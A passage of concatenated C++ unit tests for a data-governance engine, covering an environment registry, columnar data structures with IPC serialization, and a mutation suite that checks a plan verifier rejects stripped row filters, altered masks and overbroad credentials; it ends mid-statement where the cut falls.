  EXPECT_TRUE(platform_.gateway().MigrateSession("xsess-nope").IsNotFound());
}

// ---- Workload environments ------------------------------------------------------------

TEST(WorkloadEnvTest, PublishAndLookup) {
  WorkloadEnvironmentRegistry registry;
  WorkloadEnvironment v1;
  v1.version = "1";
  v1.client_version = "3.4";
  v1.interpreter = "lgvm-1";
  v1.dependencies = {{"numpyish", "1.21"}};
  ASSERT_TRUE(registry.Publish(v1).ok());
  EXPECT_EQ(registry.Publish(v1).code(), StatusCode::kAlreadyExists);

  WorkloadEnvironment v2 = v1;
  v2.version = "2";
  v2.dependencies["numpyish"] = "2.0";
  ASSERT_TRUE(registry.Publish(v2).ok());

  auto got = registry.Get("1");
  ASSERT_TRUE(got.ok());
  EXPECT_EQ(got->dependencies.at("numpyish"), "1.21");
  auto latest = registry.Latest();
  ASSERT_TRUE(latest.ok());
  EXPECT_EQ(latest->version, "2");
  EXPECT_EQ(registry.Versions().size(), 2u);
  EXPECT_TRUE(registry.Get("99").status().IsNotFound());
}

TEST(WorkloadEnvTest, EmptyRegistryHasNoLatest) {
  WorkloadEnvironmentRegistry registry;
  EXPECT_TRUE(registry.Latest().status().IsNotFound());
}

}  // namespace
}  // namespace lakeguard
