// Unit + property tests for src/columnar: values, columns, batches, tables
// and the IPC frame format.

#include <gtest/gtest.h>

#include "columnar/column.h"
#include "columnar/ipc.h"
#include "columnar/record_batch.h"
#include "columnar/table.h"

namespace lakeguard {
namespace {

// ---- Value ----------------------------------------------------------------------

TEST(ValueTest, TypesAndAccessors) {
  EXPECT_TRUE(Value::Null().is_null());
  EXPECT_EQ(Value::Bool(true).type(), TypeKind::kBool);
  EXPECT_EQ(Value::Int(3).int_value(), 3);
  EXPECT_DOUBLE_EQ(Value::Double(2.5).double_value(), 2.5);
  EXPECT_EQ(Value::String("s").string_value(), "s");
  EXPECT_TRUE(Value::Binary("\x01\x02").is_binary());
  EXPECT_FALSE(Value::Binary("x").is_string());
}

TEST(ValueTest, NumericWidening) {
  EXPECT_DOUBLE_EQ(*Value::Int(4).AsDouble(), 4.0);
  EXPECT_EQ(*Value::Double(4.9).AsInt(), 4);
  EXPECT_FALSE(Value::String("x").AsDouble().ok());
}

TEST(ValueTest, CastSemantics) {
  EXPECT_EQ(Value::String("42").CastTo(TypeKind::kInt64)->int_value(), 42);
  EXPECT_DOUBLE_EQ(
      Value::String("2.5").CastTo(TypeKind::kFloat64)->double_value(), 2.5);
  EXPECT_EQ(Value::Int(1).CastTo(TypeKind::kBool)->bool_value(), true);
  EXPECT_EQ(Value::Int(42).CastTo(TypeKind::kString)->string_value(), "42");
  EXPECT_TRUE(Value::Null().CastTo(TypeKind::kInt64)->is_null());
  EXPECT_FALSE(Value::String("nope").CastTo(TypeKind::kInt64).ok());
}

TEST(ValueTest, SqlEqualsNullNeverEqual) {
  EXPECT_FALSE(Value::Null().SqlEquals(Value::Null()));
  EXPECT_FALSE(Value::Null().SqlEquals(Value::Int(0)));
  EXPECT_TRUE(Value::Int(1).SqlEquals(Value::Double(1.0)));  // numeric coerce
}

TEST(ValueTest, CompareOrdersNullsFirst) {
  EXPECT_LT(Value::Null().Compare(Value::Int(-100)), 0);
  EXPECT_EQ(Value::Null().Compare(Value::Null()), 0);
  EXPECT_LT(Value::Int(1).Compare(Value::Int(2)), 0);
  EXPECT_GT(Value::String("b").Compare(Value::String("a")), 0);
}

TEST(ValueTest, StructuralEqualityAndHash) {
  EXPECT_EQ(Value::Null(), Value::Null());
  EXPECT_EQ(Value::Int(5), Value::Int(5));
  EXPECT_FALSE(Value::Int(1) == Value::Double(1.0));  // distinct types
  EXPECT_FALSE(Value::String("x") == Value::Binary("x"));
  EXPECT_EQ(Value::Int(5).Hash(), Value::Int(5).Hash());
  EXPECT_NE(Value::String("x").Hash(), Value::Binary("x").Hash());
}

TEST(ValueTest, ToStringRendering) {
  EXPECT_EQ(Value::Null().ToString(), "NULL");
  EXPECT_EQ(Value::Int(7).ToString(), "7");
  EXPECT_EQ(Value::Double(2.0).ToString(), "2.0");
  EXPECT_EQ(Value::Bool(false).ToString(), "false");
  EXPECT_EQ(Value::Binary(std::string("\x0f", 1)).ToString(), "0x0f");
}

// ---- Schema ---------------------------------------------------------------------

TEST(SchemaTest, LookupIsCaseInsensitive) {
  Schema schema({{"Amount", TypeKind::kInt64, true},
                 {"region", TypeKind::kString, false}});
  EXPECT_EQ(schema.FindField("amount"), 0);
  EXPECT_EQ(schema.FindField("REGION"), 1);
  EXPECT_EQ(schema.FindField("missing"), -1);
  EXPECT_TRUE(schema.GetField("region").ok());
  EXPECT_TRUE(schema.GetField("nope").status().IsNotFound());
}

TEST(SchemaTest, ProjectAndToString) {
  Schema schema({{"a", TypeKind::kInt64, true},
                 {"b", TypeKind::kString, false},
                 {"c", TypeKind::kFloat64, true}});
  Schema projected = schema.Project({2, 0});
  ASSERT_EQ(projected.num_fields(), 2u);
  EXPECT_EQ(projected.field(0).name, "c");
  EXPECT_EQ(schema.ToString(),
            "(a BIGINT, b STRING NOT NULL, c DOUBLE)");
}

TEST(TypeNamesTest, ParseAliases) {
  EXPECT_EQ(*TypeKindFromName("int"), TypeKind::kInt64);
  EXPECT_EQ(*TypeKindFromName("VARCHAR"), TypeKind::kString);
  EXPECT_EQ(*TypeKindFromName("float"), TypeKind::kFloat64);
  EXPECT_EQ(*TypeKindFromName("bytes"), TypeKind::kBinary);
  EXPECT_FALSE(TypeKindFromName("tensor").ok());
}

// ---- Column ---------------------------------------------------------------------

Column MakeIntColumn(const std::vector<int64_t>& values,
                     const std::vector<size_t>& null_at = {}) {
  ColumnBuilder b(TypeKind::kInt64);
  for (size_t i = 0; i < values.size(); ++i) {
    bool is_null = false;
    for (size_t n : null_at) {
      if (n == i) is_null = true;
    }
    if (is_null) {
      b.AppendNull();
    } else {
      b.AppendInt(values[i]);
    }
  }
  return b.Finish();
}

TEST(ColumnTest, BuildAndAccess) {
  Column col = MakeIntColumn({1, 2, 3}, {1});
  EXPECT_EQ(col.length(), 3u);
  EXPECT_EQ(col.NullCount(), 1u);
  EXPECT_FALSE(col.IsNull(0));
  EXPECT_TRUE(col.IsNull(1));
  EXPECT_EQ(col.IntAt(2), 3);
  EXPECT_TRUE(col.GetValue(1).is_null());
}

TEST(ColumnTest, FilterTakeSlice) {
  Column col = MakeIntColumn({10, 20, 30, 40});
  Column filtered = col.Filter({1, 0, 1, 0});
  ASSERT_EQ(filtered.length(), 2u);
  EXPECT_EQ(filtered.IntAt(1), 30);
  Column taken = col.Take({3, 0});
  EXPECT_EQ(taken.IntAt(0), 40);
  EXPECT_EQ(taken.IntAt(1), 10);
  Column sliced = col.Slice(1, 2);
  ASSERT_EQ(sliced.length(), 2u);
  EXPECT_EQ(sliced.IntAt(0), 20);
}

TEST(ColumnTest, AppendValueTypeChecks) {
  ColumnBuilder b(TypeKind::kBool);
  EXPECT_TRUE(b.AppendValue(Value::Bool(true)).ok());
  EXPECT_FALSE(b.AppendValue(Value::String("not-bool")).ok());
  EXPECT_TRUE(b.AppendValue(Value::Null()).ok());
}

TEST(ColumnTest, EqualsComparesContent) {
  EXPECT_TRUE(MakeIntColumn({1, 2}).Equals(MakeIntColumn({1, 2})));
  EXPECT_FALSE(MakeIntColumn({1, 2}).Equals(MakeIntColumn({2, 1})));
  EXPECT_FALSE(MakeIntColumn({1, 2}, {0}).Equals(MakeIntColumn({1, 2})));
}

// ---- RecordBatch ------------------------------------------------------------------

RecordBatch MakeTestBatch() {
  Schema schema({{"id", TypeKind::kInt64, false},
                 {"name", TypeKind::kString, true},
                 {"score", TypeKind::kFloat64, true}});
  TableBuilder builder(schema);
  EXPECT_TRUE(builder.AppendRow({Value::Int(1), Value::String("ann"),
                                 Value::Double(0.5)}).ok());
  EXPECT_TRUE(builder.AppendRow({Value::Int(2), Value::Null(),
                                 Value::Double(0.9)}).ok());
  EXPECT_TRUE(builder.AppendRow({Value::Int(3), Value::String("cy"),
                                 Value::Null()}).ok());
  auto combined = builder.Build().Combine();
  EXPECT_TRUE(combined.ok());
  return *combined;
}

TEST(RecordBatchTest, MakeValidates) {
  Schema schema({{"a", TypeKind::kInt64, true}});
  ColumnBuilder b(TypeKind::kString);
  b.AppendString("x");
  EXPECT_FALSE(RecordBatch::Make(schema, {b.Finish()}).ok());
  EXPECT_FALSE(RecordBatch::Make(schema, {}).ok());
}

TEST(RecordBatchTest, RowAndCellAccess) {
  RecordBatch batch = MakeTestBatch();
  EXPECT_EQ(batch.num_rows(), 3u);
  EXPECT_EQ(batch.num_columns(), 3u);
  auto row = batch.Row(1);
  EXPECT_EQ(row[0].int_value(), 2);
  EXPECT_TRUE(row[1].is_null());
  EXPECT_EQ(batch.CellAt(2, 1).string_value(), "cy");
}

TEST(RecordBatchTest, SelectColumnsReordersSchema) {
  RecordBatch batch = MakeTestBatch();
  RecordBatch projected = batch.SelectColumns({2, 0});
  EXPECT_EQ(projected.schema().field(0).name, "score");
  EXPECT_EQ(projected.schema().field(1).name, "id");
  EXPECT_EQ(projected.num_rows(), 3u);
}

TEST(RecordBatchTest, ToStringBoundsRows) {
  RecordBatch batch = MakeTestBatch();
  std::string rendered = batch.ToString(2);
  EXPECT_NE(rendered.find("(1 more rows)"), std::string::npos);
}

TEST(RecordBatchTest, ConcatKeepsOrder) {
  RecordBatch batch = MakeTestBatch();
  auto combined = ConcatBatches(batch.schema(), {batch, batch});
  ASSERT_TRUE(combined.ok());
  EXPECT_EQ(combined->num_rows(), 6u);
  EXPECT_EQ(combined->CellAt(3, 0).int_value(), 1);
}

// ---- Table ---------------------------------------------------------------------

TEST(TableTest, AppendRejectsSchemaMismatch) {
  Table table(Schema({{"a", TypeKind::kInt64, true}}));
  RecordBatch wrong = MakeTestBatch();
  EXPECT_FALSE(table.AppendBatch(wrong).ok());
}

TEST(TableTest, EqualsIgnoresBatchBoundaries) {
  Schema schema({{"x", TypeKind::kInt64, true}});
  TableBuilder one(schema);
  ASSERT_TRUE(one.AppendRow({Value::Int(1)}).ok());
  ASSERT_TRUE(one.AppendRow({Value::Int(2)}).ok());
  Table t1 = one.Build();

  TableBuilder two(schema);
  ASSERT_TRUE(two.AppendRow({Value::Int(1)}).ok());
  two.FinishBatch();
  ASSERT_TRUE(two.AppendRow({Value::Int(2)}).ok());
  Table t2 = two.Build();

  EXPECT_EQ(t2.batches().size(), 2u);
  EXPECT_TRUE(t1.Equals(t2));
}

TEST(TableBuilderTest, ArityChecked) {
  TableBuilder builder(Schema({{"a", TypeKind::kInt64, true}}));
  EXPECT_FALSE(builder.AppendRow({Value::Int(1), Value::Int(2)}).ok());
}

// ---- IPC ------------------------------------------------------------------------

TEST(IpcTest, BatchRoundTrip) {
  RecordBatch batch = MakeTestBatch();
  auto frame = ipc::SerializeBatch(batch);
  auto back = ipc::DeserializeBatch(frame);
  ASSERT_TRUE(back.ok());
  EXPECT_TRUE(back->Equals(batch));
}

TEST(IpcTest, EmptyBatchRoundTrip) {
  RecordBatch batch = RecordBatch::Empty(
      Schema({{"a", TypeKind::kInt64, true}, {"b", TypeKind::kBinary, true}}));
  auto back = ipc::DeserializeBatch(ipc::SerializeBatch(batch));
  ASSERT_TRUE(back.ok());
  EXPECT_EQ(back->num_rows(), 0u);
  EXPECT_TRUE(back->schema().Equals(batch.schema()));
}

TEST(IpcTest, CorruptionDetected) {
  auto frame = ipc::SerializeBatch(MakeTestBatch());
  frame[frame.size() / 2] ^= 0xFF;
  auto back = ipc::DeserializeBatch(frame);
  EXPECT_FALSE(back.ok());
  EXPECT_EQ(back.status().code(), StatusCode::kDataLoss);
}

TEST(IpcTest, BadMagicRejected) {
  auto frame = ipc::SerializeBatch(MakeTestBatch());
  frame[0] ^= 0x1;
  EXPECT_FALSE(ipc::DeserializeBatch(frame).ok());
}

TEST(IpcTest, TruncationRejected) {
  auto frame = ipc::SerializeBatch(MakeTestBatch());
  frame.resize(frame.size() - 5);
  EXPECT_FALSE(ipc::DeserializeBatch(frame).ok());
}

// Property sweep: round-trip batches of every column type and several row
// counts, with a null sprinkled into each nullable column.
class IpcRoundTripTest
    : public ::testing::TestWithParam<std::tuple<TypeKind, int>> {};

TEST_P(IpcRoundTripTest, RoundTrips) {
  auto [kind, rows] = GetParam();
  ColumnBuilder builder(kind);
  for (int i = 0; i < rows; ++i) {
    if (i % 5 == 3) {
      builder.AppendNull();
      continue;
    }
    switch (kind) {
      case TypeKind::kBool:
        builder.AppendBool(i % 2 == 0);
        break;
      case TypeKind::kInt64:
        builder.AppendInt(i * 1000003 - 500);
        break;
      case TypeKind::kFloat64:
        builder.AppendDouble(i * 0.25 - 3.5);
        break;
      case TypeKind::kString:
      case TypeKind::kBinary:
        builder.AppendString(std::string(i % 17, 'x') + std::to_string(i));
        break;
      case TypeKind::kNull:
        builder.AppendNull();
        break;
    }
  }
  Schema schema({{"c", kind, true}});
  RecordBatch batch(schema, {builder.Finish()});
  auto back = ipc::DeserializeBatch(ipc::SerializeBatch(batch));
  ASSERT_TRUE(back.ok()) << back.status();
  EXPECT_TRUE(back->Equals(batch));
}

INSTANTIATE_TEST_SUITE_P(
    AllTypesAndSizes, IpcRoundTripTest,
    ::testing::Combine(::testing::Values(TypeKind::kBool, TypeKind::kInt64,
                                         TypeKind::kFloat64, TypeKind::kString,
                                         TypeKind::kBinary),
                       ::testing::Values(0, 1, 7, 64, 1000)));

TEST(ColumnByteSizeTest, StringColumnAccountsForHeapCapacity) {
  ColumnBuilder wide(TypeKind::kString);
  ColumnBuilder narrow(TypeKind::kString);
  for (int i = 0; i < 16; ++i) {
    wide.AppendString(std::string(4096, 'w'));
    narrow.AppendString("s");
  }
  Column wide_col = wide.Finish();
  Column narrow_col = narrow.Finish();
  // Heap-allocated string payloads dominate; the memory proxy must see them.
  EXPECT_GE(wide_col.ByteSize(), 16u * 4096u);
  // Short strings still charge at least the inline string object itself.
  EXPECT_GE(narrow_col.ByteSize(), 16u * sizeof(std::string));
  EXPECT_LT(narrow_col.ByteSize(), wide_col.ByteSize() / 8);
}

}  // namespace
}  // namespace lakeguard
