// Mutation suite for src/engine/plan_verifier: every violation class the
// verifier guards against (V1..V5 plus malformed input) is seeded into an
// otherwise-correct plan and must be rejected with its distinct diagnostic
// code — and clean analyzed plans must produce zero findings (no false
// positives). Also covers the per-rewrite attribution hook and the Connect
// pre-admission call site (a hand-crafted ResolvedScan that skips policy
// injection must die with kFailedPrecondition before consuming a slot).

#include <gtest/gtest.h>

#include <functional>
#include <string>
#include <vector>

#include "core/platform.h"
#include "engine/optimizer.h"
#include "engine/plan_verifier.h"
#include "sql/parser.h"
#include "udf/builder.h"

namespace lakeguard {
namespace {

/// Bottom-up rebuild of a plan tree: `fn` sees each node and returns a
/// replacement, or nullptr to keep the node (children are then rebuilt).
/// Only the node kinds the mutations traverse are handled.
PlanPtr Rebuild(const PlanPtr& plan,
                const std::function<PlanPtr(const PlanPtr&)>& fn) {
  PlanPtr replaced = fn(plan);
  if (replaced) return replaced;
  switch (plan->kind()) {
    case PlanKind::kProject: {
      const auto& p = static_cast<const ProjectNode&>(*plan);
      return MakeProject(Rebuild(p.child(), fn), p.exprs(), p.names());
    }
    case PlanKind::kFilter: {
      const auto& f = static_cast<const FilterNode&>(*plan);
      return MakeFilter(Rebuild(f.child(), fn), f.condition());
    }
    case PlanKind::kSecureView: {
      const auto& sv = static_cast<const SecureViewNode&>(*plan);
      return MakeSecureView(Rebuild(sv.child(), fn), sv.securable_name());
    }
    case PlanKind::kLimit: {
      const auto& l = static_cast<const LimitNode&>(*plan);
      return MakeLimit(Rebuild(l.child(), fn), l.limit());
    }
    case PlanKind::kSort: {
      const auto& s = static_cast<const SortNode&>(*plan);
      return MakeSort(Rebuild(s.child(), fn), s.keys());
    }
    case PlanKind::kAggregate: {
      const auto& a = static_cast<const AggregateNode&>(*plan);
      return MakeAggregate(Rebuild(a.child(), fn), a.group_exprs(),
                           a.group_names(), a.agg_exprs(), a.agg_names());
    }
    default:
      return plan;
  }
}

class PlanVerifierTest : public ::testing::Test {
 protected:
  PlanVerifierTest() {
    EXPECT_TRUE(platform_.AddUser("admin").ok());
    EXPECT_TRUE(platform_.AddUser("eve").ok());
    platform_.AddMetastoreAdmin("admin");
    platform_.RegisterToken("tok-eve", "eve");
    EXPECT_TRUE(platform_.catalog().CreateCatalog("admin", "main").ok());
    EXPECT_TRUE(platform_.catalog().CreateSchema("admin", "main.s").ok());

    cluster_ = platform_.CreateStandardCluster();
    admin_ctx_ = *platform_.DirectContext(cluster_, "admin");
    Must("CREATE TABLE main.s.sales (region STRING, amount BIGINT, "
         "seller STRING)");
    Must("INSERT INTO main.s.sales VALUES ('US', 120, 'ann'), "
         "('EU', 75, 'zoe')");
    Must("ALTER TABLE main.s.sales SET ROW FILTER (region = 'US')");
    Must("CREATE TABLE main.s.customers (name STRING, ssn STRING)");
    Must("INSERT INTO main.s.customers VALUES ('ann', '123-45-6789')");
    Must("ALTER TABLE main.s.customers ALTER COLUMN ssn SET MASK "
         "(REDACT(ssn))");
    Must("CREATE TABLE main.s.plain (x BIGINT)");
    Must("INSERT INTO main.s.plain VALUES (1), (2)");
    Must("GRANT USE CATALOG ON main TO eve");
    Must("GRANT USE SCHEMA ON main.s TO eve");
    Must("GRANT SELECT ON main.s.sales TO eve");
  }

  void Must(const std::string& sql) {
    auto result = cluster_->engine->ExecuteSql(sql, admin_ctx_);
    ASSERT_TRUE(result.ok()) << sql << " -> " << result.status();
  }

  /// Registers `body` as an admin-owned cataloged function (V8 fixtures).
  void MustCreateFunction(const std::string& full_name, UdfBytecode body,
                          std::vector<std::string> egress = {}) {
    FunctionInfo fn;
    fn.full_name = full_name;
    fn.num_args = body.num_args;
    fn.return_type = body.return_type;
    fn.body = std::move(body);
    fn.allowed_egress = std::move(egress);
    Status s = platform_.catalog().CreateFunction("admin", std::move(fn));
    ASSERT_TRUE(s.ok()) << full_name << " -> " << s;
  }

  /// Analyzes `sql` as `ctx`, checking success.
  AnalysisResult Analyzed(const std::string& sql,
                          const ExecutionContext& ctx) {
    auto stmt = ParseSql(sql);
    EXPECT_TRUE(stmt.ok()) << stmt.status();
    Analyzer analyzer(&platform_.catalog(), ctx);
    auto analysis = analyzer.Analyze(std::get<SelectStatement>(*stmt).plan);
    EXPECT_TRUE(analysis.ok()) << sql << " -> " << analysis.status();
    return std::move(*analysis);
  }

  Diagnostics Verify(const PlanPtr& plan, const ExecutionContext& ctx,
                     const AnalysisResult* analysis = nullptr) {
    PlanVerifier verifier(&platform_.catalog());
    return verifier.Verify(plan, ctx, analysis);
  }

  LakeguardPlatform platform_;
  ClusterHandle* cluster_ = nullptr;
  ExecutionContext admin_ctx_;
};

// ---- No false positives -----------------------------------------------------

TEST_F(PlanVerifierTest, CleanAnalyzedPlansProduceNoDiagnostics) {
  for (const char* sql : {
           "SELECT amount FROM main.s.sales",
           "SELECT region, SUM(amount) AS t FROM main.s.sales "
           "GROUP BY region",
           "SELECT name, ssn FROM main.s.customers ORDER BY name LIMIT 5",
           "SELECT x FROM main.s.plain WHERE x > 1",
       }) {
    AnalysisResult analysis = Analyzed(sql, admin_ctx_);
    Diagnostics diags = Verify(analysis.plan, admin_ctx_, &analysis);
    EXPECT_TRUE(diags.empty()) << sql << ":\n" << diags.ToString();
  }
}

TEST_F(PlanVerifierTest, OptimizedPlansProduceNoDiagnostics) {
  auto exec = cluster_->engine->ExecutePlanExplained(
      std::get<SelectStatement>(
          *ParseSql("SELECT seller FROM main.s.sales WHERE amount > 100"))
          .plan,
      admin_ctx_);
  ASSERT_TRUE(exec.ok()) << exec.status();
  Diagnostics diags = Verify(exec->optimized, admin_ctx_);
  EXPECT_TRUE(diags.empty()) << diags.ToString();
}

// ---- V1 (PV001): stripped enforcement ---------------------------------------

TEST_F(PlanVerifierTest, RemovedRowFilterFlagsPV001) {
  AnalysisResult analysis = Analyzed("SELECT amount FROM main.s.sales",
                                     admin_ctx_);
  // Mutation: delete the policy Filter under the SecureView, exposing the
  // raw scan.
  PlanPtr mutated = Rebuild(analysis.plan, [](const PlanPtr& p) -> PlanPtr {
    if (p->kind() != PlanKind::kSecureView) return nullptr;
    const auto& sv = static_cast<const SecureViewNode&>(*p);
    if (sv.child()->kind() != PlanKind::kFilter) return nullptr;
    return MakeSecureView(
        static_cast<const FilterNode&>(*sv.child()).child(),
        sv.securable_name());
  });
  Diagnostics diags = Verify(mutated, admin_ctx_, &analysis);
  EXPECT_TRUE(diags.HasCode(PlanVerifier::kPolicyMissing))
      << diags.ToString();
  EXPECT_TRUE(diags.ToStatus("verify").IsFailedPrecondition());
}

TEST_F(PlanVerifierTest, StrippedColumnMaskFlagsPV001) {
  AnalysisResult analysis = Analyzed("SELECT ssn FROM main.s.customers",
                                     admin_ctx_);
  // Mutation: replace the mask Project's REDACT(ssn) with the raw column.
  PlanPtr mutated = Rebuild(analysis.plan, [](const PlanPtr& p) -> PlanPtr {
    if (p->kind() != PlanKind::kSecureView) return nullptr;
    const auto& sv = static_cast<const SecureViewNode&>(*p);
    if (sv.child()->kind() != PlanKind::kProject) return nullptr;
    const auto& project = static_cast<const ProjectNode&>(*sv.child());
    std::vector<ExprPtr> exprs = project.exprs();
    exprs[1] = ColIdx("ssn", 1);  // ssn is column 1 of main.s.customers
    return MakeSecureView(
        MakeProject(project.child(), std::move(exprs), project.names()),
        sv.securable_name());
  });
  Diagnostics diags = Verify(mutated, admin_ctx_, &analysis);
  ASSERT_TRUE(diags.HasCode(PlanVerifier::kPolicyMissing))
      << diags.ToString();
  EXPECT_NE(diags.ToString().find("stripped"), std::string::npos);
}

TEST_F(PlanVerifierTest, BareScanOfPolicyTableFlagsPV001) {
  // A scan leaf with no SecureView region at all — what a client submitting
  // a pre-resolved plan would try in order to skip policy injection.
  PolicyInspection info = platform_.catalog().InspectPolicies(
      "admin", admin_ctx_.compute, "main.s.sales");
  ASSERT_TRUE(info.found);
  PlanPtr bare =
      MakeResolvedScan("main.s.sales", info.storage_root, info.schema);
  Diagnostics diags = Verify(bare, admin_ctx_);
  EXPECT_TRUE(diags.HasCode(PlanVerifier::kPolicyMissing))
      << diags.ToString();
}

// ---- V2 (PV002): contaminated / altered region ------------------------------

TEST_F(PlanVerifierTest, ForeignOperatorInRegionFlagsPV002) {
  AnalysisResult analysis = Analyzed("SELECT amount FROM main.s.sales",
                                     admin_ctx_);
  // Mutation: a Limit wedged between the barrier and the policy Filter.
  PlanPtr mutated = Rebuild(analysis.plan, [](const PlanPtr& p) -> PlanPtr {
    if (p->kind() != PlanKind::kSecureView) return nullptr;
    const auto& sv = static_cast<const SecureViewNode&>(*p);
    return MakeSecureView(MakeLimit(sv.child(), 1000), sv.securable_name());
  });
  Diagnostics diags = Verify(mutated, admin_ctx_, &analysis);
  EXPECT_TRUE(diags.HasCode(PlanVerifier::kRegionContaminated))
      << diags.ToString();
}

TEST_F(PlanVerifierTest, UserPredicatePushedBelowPolicyFilterFlagsPV002) {
  AnalysisResult analysis = Analyzed("SELECT amount FROM main.s.sales",
                                     admin_ctx_);
  // Mutation: a (mis-ordered) pushdown sneaks a user predicate below the
  // row filter, between it and the scan.
  PlanPtr mutated = Rebuild(analysis.plan, [](const PlanPtr& p) -> PlanPtr {
    if (p->kind() != PlanKind::kSecureView) return nullptr;
    const auto& sv = static_cast<const SecureViewNode&>(*p);
    if (sv.child()->kind() != PlanKind::kFilter) return nullptr;
    const auto& policy = static_cast<const FilterNode&>(*sv.child());
    ExprPtr user_pred =
        BinOp(BinaryOpKind::kGt, ColIdx("amount", 1), LitInt(100));
    return MakeSecureView(
        MakeFilter(MakeFilter(policy.child(), user_pred),
                   policy.condition()),
        sv.securable_name());
  });
  Diagnostics diags = Verify(mutated, admin_ctx_, &analysis);
  EXPECT_TRUE(diags.HasCode(PlanVerifier::kRegionContaminated))
      << diags.ToString();
}

TEST_F(PlanVerifierTest, AlteredRowFilterPredicateFlagsPV002) {
  AnalysisResult analysis = Analyzed("SELECT amount FROM main.s.sales",
                                     admin_ctx_);
  // Mutation: the filter op survives but its predicate was weakened.
  PlanPtr mutated = Rebuild(analysis.plan, [](const PlanPtr& p) -> PlanPtr {
    if (p->kind() != PlanKind::kSecureView) return nullptr;
    const auto& sv = static_cast<const SecureViewNode&>(*p);
    if (sv.child()->kind() != PlanKind::kFilter) return nullptr;
    const auto& policy = static_cast<const FilterNode&>(*sv.child());
    return MakeSecureView(
        MakeFilter(policy.child(),
                   Eq(ColIdx("region", 0), LitString("EU"))),
        sv.securable_name());
  });
  Diagnostics diags = Verify(mutated, admin_ctx_, &analysis);
  ASSERT_TRUE(diags.HasCode(PlanVerifier::kRegionContaminated))
      << diags.ToString();
  EXPECT_NE(diags.ToString().find("altered"), std::string::npos);
}

TEST_F(PlanVerifierTest, AlteredMaskExpressionFlagsPV002) {
  AnalysisResult analysis = Analyzed("SELECT ssn FROM main.s.customers",
                                     admin_ctx_);
  // Mutation: the mask slot computes something other than the policy.
  PlanPtr mutated = Rebuild(analysis.plan, [](const PlanPtr& p) -> PlanPtr {
    if (p->kind() != PlanKind::kSecureView) return nullptr;
    const auto& sv = static_cast<const SecureViewNode&>(*p);
    if (sv.child()->kind() != PlanKind::kProject) return nullptr;
    const auto& project = static_cast<const ProjectNode&>(*sv.child());
    std::vector<ExprPtr> exprs = project.exprs();
    exprs[1] = Func("UPPER", {ColIdx("ssn", 1)});
    return MakeSecureView(
        MakeProject(project.child(), std::move(exprs), project.names()),
        sv.securable_name());
  });
  Diagnostics diags = Verify(mutated, admin_ctx_, &analysis);
  EXPECT_TRUE(diags.HasCode(PlanVerifier::kRegionContaminated))
      << diags.ToString();
}

// ---- V3 (PV003): trust-domain fusion ----------------------------------------

TEST_F(PlanVerifierTest, CrossOwnerUdfPipelineFlagsPV003) {
  AnalysisResult analysis = Analyzed("SELECT x FROM main.s.plain",
                                     admin_ctx_);
  // Mutation: a fused Project where bob's UDF output feeds alice's UDF in
  // one expression — two trust domains in one sandbox dispatch.
  ExprPtr fused = Udf("main.s.f_alice", "alice", TypeKind::kInt64,
                      {Udf("main.s.g_bob", "bob", TypeKind::kInt64,
                           {ColIdx("x", 0)})});
  PlanPtr mutated = MakeProject(analysis.plan, {fused}, {"y"});
  Diagnostics diags = Verify(mutated, admin_ctx_, &analysis);
  EXPECT_TRUE(diags.HasCode(PlanVerifier::kTrustDomainFusion))
      << diags.ToString();
  // Same-owner nesting stays legal.
  ExprPtr same_owner = Udf("main.s.f_alice", "alice", TypeKind::kInt64,
                           {Udf("main.s.h_alice", "alice", TypeKind::kInt64,
                                {ColIdx("x", 0)})});
  Diagnostics clean =
      Verify(MakeProject(analysis.plan, {same_owner}, {"y"}), admin_ctx_);
  EXPECT_FALSE(clean.HasCode(PlanVerifier::kTrustDomainFusion))
      << clean.ToString();
}

// ---- V4 (PV004): residual local scan on privileged compute ------------------

TEST_F(PlanVerifierTest, LocalScanOfExternallyEnforcedTableFlagsPV004) {
  ClusterHandle* dedicated =
      platform_.CreateDedicatedCluster("eve", /*is_group=*/false);
  ExecutionContext eve_ctx = *platform_.DirectContext(dedicated, "eve");
  PolicyInspection info = platform_.catalog().InspectPolicies(
      "admin", admin_ctx_.compute, "main.s.sales");
  ASSERT_TRUE(info.found);
  // On eve's dedicated cluster the catalog demands eFGAC for this table;
  // a plan that still scans it locally (even with the region intact) is a
  // policy bypass — the policy expressions would run on untrusted compute.
  PlanPtr local_scan =
      MakeResolvedScan("main.s.sales", info.storage_root, info.schema);
  Diagnostics diags = Verify(local_scan, eve_ctx);
  EXPECT_TRUE(diags.HasCode(PlanVerifier::kResidualLocalScan))
      << diags.ToString();
  // The same leaf as a RemoteScan is what the eFGAC rewrite produces: ok.
  PlanPtr remote = MakeRemoteScan(MakeTableRef("main.s.sales"),
                                  "serverless", info.schema);
  Diagnostics clean = Verify(remote, eve_ctx);
  EXPECT_TRUE(clean.empty()) << clean.ToString();
}

// ---- V5 (PV005): overbroad vended credentials -------------------------------

TEST_F(PlanVerifierTest, WriteCapableCredentialFlagsPV005) {
  AnalysisResult analysis = Analyzed("SELECT amount FROM main.s.sales",
                                     admin_ctx_);
  PolicyInspection info = platform_.catalog().InspectPolicies(
      "admin", admin_ctx_.compute, "main.s.sales");
  StorageCredential cred = platform_.authority().Issue(
      "admin", admin_ctx_.compute.compute_id, {info.storage_root + "/*"},
      /*allow_write=*/true, /*ttl_micros=*/60'000'000);
  analysis.read_tokens["main.s.sales"] = cred.token_id;
  Diagnostics diags = Verify(analysis.plan, admin_ctx_, &analysis);
  ASSERT_TRUE(diags.HasCode(PlanVerifier::kOverbroadCredential))
      << diags.ToString();
  EXPECT_NE(diags.ToString().find("writes"), std::string::npos);
}

TEST_F(PlanVerifierTest, OverbroadPrefixCredentialFlagsPV005) {
  AnalysisResult analysis = Analyzed("SELECT amount FROM main.s.sales",
                                     admin_ctx_);
  // A token unlocking the whole bucket instead of the table's root.
  StorageCredential cred = platform_.authority().Issue(
      "admin", admin_ctx_.compute.compute_id, {"/*"},
      /*allow_write=*/false, /*ttl_micros=*/60'000'000);
  analysis.read_tokens["main.s.sales"] = cred.token_id;
  Diagnostics diags = Verify(analysis.plan, admin_ctx_, &analysis);
  EXPECT_TRUE(diags.HasCode(PlanVerifier::kOverbroadCredential))
      << diags.ToString();
}

TEST_F(PlanVerifierTest, ForeignPrincipalCredentialFlagsPV005) {
  AnalysisResult analysis = Analyzed("SELECT amount FROM main.s.sales",
                                     admin_ctx_);
  PolicyInspection info = platform_.catalog().InspectPolicies(
      "admin", admin_ctx_.compute, "main.s.sales");
  // Right scope, wrong identity: the plan never scans the table as eve.
  StorageCredential cred = platform_.authority().Issue(
      "eve", admin_ctx_.compute.compute_id, {info.storage_root + "/*"},
